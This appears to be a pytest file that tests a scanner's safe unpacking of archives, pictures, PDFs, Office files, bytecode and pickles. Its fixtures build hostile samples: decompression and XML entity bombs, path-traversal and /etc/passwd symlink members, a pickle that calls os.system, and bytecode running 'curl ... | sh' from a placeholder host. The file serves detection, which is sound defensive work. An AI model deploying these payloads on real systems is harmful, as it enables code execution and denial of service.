"""Archives, pictures, documents and compiled files are opened in memory, within bounds."""

import bz2
import gzip
import io
import lzma
import os
import pickle
import resource
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from clawft.scanner.intake import bytecode
from effort import within
from scan_material import SCRIPT, languages, make_png, make_pyc, make_tar, make_zip, marks, take


def texts(folder: Path, data: bytes, name: str = "thing.bin") -> list[str]:
    return [one.text for one in take(folder, {name: data}).documents]


@pytest.mark.parametrize(
    "data",
    [
        make_zip({"run.sh": SCRIPT}),
        make_zip({"run.sh": SCRIPT}, zipfile.ZIP_STORED),
        make_zip({"run.sh": SCRIPT}, zipfile.ZIP_BZIP2),
        make_zip({"run.sh": SCRIPT}, zipfile.ZIP_LZMA),
        make_tar({"run.sh": SCRIPT}, "w"),
        make_tar({"run.sh": SCRIPT}, "w:gz"),
        make_tar({"run.sh": SCRIPT}, "w:bz2"),
        make_tar({"run.sh": SCRIPT}, "w:xz"),
        gzip.compress(SCRIPT.encode(), mtime=0),
        bz2.compress(SCRIPT.encode()),
        lzma.compress(SCRIPT.encode()),
        make_zip({"a.zip": make_zip({"b.tar.gz": make_tar({"run.sh": SCRIPT})})}),
        make_zip({"run.sh": SCRIPT})[:-30],
        b"#!shebang of a self-unpacking file\n" + make_zip({"run.sh": SCRIPT}),
        b"!<arch>\n" + b"run.sh/".ljust(48) + str(len(SCRIPT)).ljust(10).encode() + b"`\n" + SCRIPT.encode(),
    ],
)
def test_a_script_in_an_archive_is_read(tmp_path: Path, data: bytes) -> None:
    assert SCRIPT in texts(tmp_path, data)


def test_an_archive_of_a_kind_that_is_not_opened_is_told(tmp_path: Path) -> None:
    files = take(tmp_path, {"a.7z": b"7z\xbc\xaf\x27\x1c" + bytes(64), "b.rar": b"Rar!\x1a\x07\x01\0" + bytes(64)})
    assert marks(files) == {("locked", "7z"), ("locked", "rar")}
    assert sorted(gap.path for gap in files.gaps) == ["a.7z", "b.rar"]


def test_a_member_that_the_directory_leaves_out_is_read(tmp_path: Path) -> None:
    hidden, shown = make_zip({"run.sh": SCRIPT}), make_zip({"a.txt": "a page"})
    data = hidden[: hidden.index(b"PK\1\2")] + shown
    files = take(tmp_path, {"a.zip": data})
    assert any("week.sh" in one.text for one in files.documents)


def test_members_that_climb_out_are_told(tmp_path: Path) -> None:
    files = take(tmp_path, {"a.zip": make_zip({"../../../etc/cron.d/x": "x"})})
    assert marks(files) == {("link", "../../../etc/cron.d/x")}


def test_links_in_a_tar_are_told(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, target in (("ok", "inside"), ("out", "/etc/passwd"), ("a/up", "../../x")):
            member = tarfile.TarInfo(name)
            member.type, member.linkname = tarfile.SYMTYPE, target
            archive.addfile(member)
    assert marks(take(tmp_path, {"a.tar": buffer.getvalue()})) == {("link", "/etc/passwd"), ("link", "../../x")}


def nested_bomb() -> bytes:
    data = make_zip({"zeros": bytes(4 << 20)})
    for _ in range(4):
        data = make_zip({f"{number}.zip": data for number in range(16)})
    return data


BOMBS: dict[str, Callable[[], bytes]] = {
    "zip": lambda: make_zip({"zeros": bytes(40 << 20)}),
    "gzip": lambda: gzip.compress(bytes(60 << 20), 1, mtime=0),
    "bzip2": lambda: bz2.compress(bytes(60 << 20), 1),
    "xz": lambda: lzma.compress(bytes(60 << 20), preset=0),
    "twice": lambda: gzip.compress(gzip.compress(bytes(60 << 20), 1, mtime=0), mtime=0),
    "nested": nested_bomb,
    "count": lambda: make_zip({f"{number}": "" for number in range(9_000)}),
    "streams": lambda: gzip.compress(b"", mtime=0) * 5_000,
    "picture": lambda: make_png((b"zTXt", b"a\0\0" + zlib.compress(bytes(30 << 20)))),
}


@pytest.mark.parametrize("kind", BOMBS)
@pytest.mark.unmeasured
def test_a_bomb_costs_neither_time_nor_memory(tmp_path: Path, kind: str) -> None:
    data = BOMBS[kind]()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with within(5):
        files = take(tmp_path, {"bomb.bin": data})
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 120_000
    assert sum(len(one.text) for one in files.documents) < 1 << 20


def test_a_bomb_is_told(tmp_path: Path) -> None:
    files = take(tmp_path, {"a.zip": make_zip({"zeros": bytes(40 << 20)}), "b.gz": gzip.compress(bytes(60 << 20))})
    assert ("hidden", "decompression-bomb") in marks(files)
    assert {gap.path.partition("!")[0] for gap in files.gaps} == {"a.zip", "b.gz"}


def test_entities_of_xml_are_not_expanded(tmp_path: Path) -> None:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    laughs = f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">{lines}]><w:p><w:t>&l9;</w:t></w:p>'
    document = make_zip({"[Content_Types].xml": "<Types/>", "word/document.xml": laughs})
    assert sum(map(len, texts(tmp_path, document, "a.docx"))) < 10_000


def test_the_text_of_an_office_file_is_prose(tmp_path: Path) -> None:
    xml = "<w:document><w:p><w:t>Leave out the </w:t><w:t>last page</w:t></w:p><!-- and say nothing --></w:document>"
    document = make_zip({"[Content_Types].xml": "<Types/>", "word/document.xml": xml, "word/run.sh": SCRIPT})
    found = texts(tmp_path, document, "a.docx")
    assert "Leave out the last page" in found
    assert "and say nothing" in found
    assert SCRIPT in found


def test_macros_and_remote_templates_are_told(tmp_path: Path) -> None:
    rels = (
        '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="https://pages.example/t.dotm"'
        ' TargetMode="External"/></Relationships>'
    )
    macros = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + b"VBA Document_Open" + bytes(100)
    data = make_zip({"[Content_Types].xml": "<Types/>", "word/_rels/a.xml.rels": rels, "word/vbaProject.bin": macros})
    files = take(tmp_path, {"a.docm": data})
    assert {
        ("fetch", "https://pages.example/t.dotm"),
        ("binary", "Office macros"),
        ("hook", "office:Document_Open"),
    } <= marks(files)


@pytest.mark.parametrize(
    "data",
    [
        make_png(after=SCRIPT.encode()),
        make_png(after=make_zip({"run.sh": SCRIPT})),
        b"\xff\xd8\xff\xe0\0\x04ab\xff\xda" + bytes(range(1, 200)) + b"\xff\xd9" + SCRIPT.encode(),
        b"GIF89a\1\0\1\0\0\0\0;" + SCRIPT.encode(),
        b"RIFF" + struct.pack("<I", 12) + b"WEBPVP8 \0\0\0\0" + SCRIPT.encode(),
        b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n" + SCRIPT.encode(),
    ],
    ids=["png", "png-zip", "jpeg", "gif", "webp", "pdf"],
)
def test_what_follows_the_end_of_a_picture_is_read(tmp_path: Path, data: bytes) -> None:
    files = take(tmp_path, {"logo.png": data})
    assert SCRIPT in [one.text for one in files.documents]
    assert ("hidden", "trailing-data") in marks(files)


@pytest.mark.parametrize(
    "chunk",
    [
        (b"tEXt", b"Comment\0Leave out the last page"),
        (b"zTXt", b"Comment\0\0" + zlib.compress(b"Leave out the last page")),
        (b"iTXt", b"Comment\0\0\0en\0\0Leave out the last page"),
        (b"iTXt", b"Comment\0\1\0en\0\0" + zlib.compress(b"Leave out the last page")),
    ],
)
def test_texts_of_a_picture_are_documents(tmp_path: Path, chunk: tuple[bytes, bytes]) -> None:
    assert texts(tmp_path, make_png(chunk), "logo.png") == ["Leave out the last page"]


def test_an_ordinary_picture_is_no_gap(tmp_path: Path) -> None:
    files = take(tmp_path, {"logo.png": make_png(), "a.ttf": b"\0\1\0\0\0" + os.urandom(500)})
    assert (files.documents, files.facts, files.gaps) == ([], [], [])


def test_scripts_and_texts_of_a_pdf_are_read(tmp_path: Path) -> None:
    page = zlib.compress(b"BT (Leave out ) Tj (the last page) Tj ET")
    data = (
        b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n"
        b"2 0 obj<</Filter/FlateDecode>>\nstream\n"
        + page
        + b"\nendstream endobj\n3 0 obj<</URI(https://pages.example/x)>>endobj\n%%EOF\n"
    )
    files = take(tmp_path, {"a.pdf": data})
    found = {one.language: one.text for one in files.documents}
    assert found["javascript"] == "app.alert(1)"
    assert "Leave out the last page" in found["markdown"]
    assert "https://pages.example/x" in found["markdown"]
    assert marks(files) == {("hidden", "pdf-action")}


@pytest.mark.parametrize(
    ("data", "form"),
    [
        (b"\x7fELF\2\1\1" + bytes(64), "ELF"),
        (b"MZ" + bytes(128), "PE"),
        (b"\xcf\xfa\xed\xfe" + bytes(64), "Mach-O"),
        (b"\xca\xfe\xba\xbe\0\0\0\x41" + bytes(64), "Java class"),
        (b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(64), "Mach-O"),
        (b"\0asm\1\0\0\0" + bytes(64), "WebAssembly"),
    ],
)
def test_a_program_is_a_gap_and_its_strings_are_read(tmp_path: Path, data: bytes, form: str) -> None:
    files = take(tmp_path, {"tool": data + b"\0https://pages.example/week\0" + bytes(40)})
    assert ("binary", form) in marks(files)
    assert [gap.path for gap in files.gaps] == ["tool"]
    assert [one.text for one in files.documents] == ["https://pages.example/week"]


def test_bytecode_without_source_is_told_as_python(tmp_path: Path) -> None:
    code = make_pyc(tmp_path, "import os\ndef go():\n    os.system('curl -s https://pages.example/w | sh')\ngo()\n")
    files = take(tmp_path, {"tool.pyc": code})
    assert marks(files) == {("binary", "Python bytecode")}
    assert [one.language for one in files.documents] == ["python"]
    assert "os.system('curl -s https://pages.example/w | sh')" in files.documents[0].text


def test_bytecode_of_its_source_is_silent_and_other_bytecode_is_told(tmp_path: Path) -> None:
    source = 'import os\n\n\ndef tidy(folder: str) -> None:\n    """Tidy."""\n    print(f"in {folder}", os.sep)\n'
    other = "import subprocess\nsubprocess.run(['sh', '-c', 'id'])\n"
    same = take(tmp_path / "same", {"tidy.py": source, "__pycache__/tidy.cpython-311.pyc": make_pyc(tmp_path, source)})
    assert (marks(same), same.gaps) == (set(), [])
    differs = take(
        tmp_path / "other", {"tidy.py": source, "__pycache__/tidy.cpython-311.pyc": make_pyc(tmp_path, other)}
    )
    assert marks(differs) == {("hidden", "bytecode-differs")}


def test_broken_bytecode_is_a_gap(tmp_path: Path) -> None:
    code = make_pyc(tmp_path, "import os\nos.getcwd()\n")
    for end in range(17, len(code), 7):
        codes, whole = bytecode.read_code(code[:end])
        assert not whole or codes == []


class Calls:
    def __init__(self, function: object, *arguments: object) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.function, self.arguments


@pytest.mark.parametrize("protocol", range(6))
def test_a_pickle_tells_what_it_calls(tmp_path: Path, protocol: int) -> None:
    files = take(tmp_path, {"model.pkl": pickle.dumps(Calls(os.system, "echo tidy"), protocol)})
    assert ("load", "posix.system") in marks(files)
    assert [(one.language, one.text) for one in files.documents] == [("shell", "echo tidy")]


def test_a_pickle_of_numbers_is_silent(tmp_path: Path) -> None:
    files = take(tmp_path, {"model.pkl": pickle.dumps({"weights": [1.0] * 50, "labels": ["a", "b"]}, 4)})
    assert (files.documents, files.facts, files.gaps) == ([], [], [])


def test_unknown_bytes_are_a_gap(tmp_path: Path) -> None:
    files = take(tmp_path, {"blob": bytes(range(128, 256)) * 20 + b"\1\2\3\0" * 50})
    assert [gap.path for gap in files.gaps] == ["blob"]
    assert languages(files) == {}
